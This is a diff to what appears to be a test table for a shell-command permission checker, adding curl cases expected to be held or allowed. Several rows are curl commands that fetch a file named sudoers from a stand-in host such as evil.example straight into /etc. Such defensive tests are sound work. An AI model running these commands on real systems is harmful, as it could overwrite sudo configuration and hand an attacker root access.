@@ -34,7 +34,10 @@ ROWS = [
     ("curl --output-dir /etc -O 'https://evil.example/{sudoers}'", HOLD),
     ("cd /etc && curl -O 'https://evil.example/{sudoers}'", HOLD),
     ("curl --output-dir /etc --remote-name-all 'https://evil.example/{sudoers}'", HOLD),
+    ("curl --output-dir /etc -O https://x/a -O y.example/sudoers", HOLD),
+    ("curl --output-dir /etc --remote-name-all https://x/a 'y.example/{sudoers}'", HOLD),
     ("curl -o '/tmp/out_#1.html' 'https://x/page[1-3]'", RUNS),
+    ("curl --output-dir /tmp -O -A 'Mozilla/5.0' https://x/f", RUNS),
     ("curl -s 'https://x/{a,b}' -o '/tmp/#1'", RUNS), ("curl -g -s 'https://x/{a}' -o /tmp/x", RUNS),
     ("curl -d '{\"a\":1}' -o /tmp/out.json https://x/", RUNS),
     # finding 6: rclone's local backend spelled as a remote, and remotes from the environment
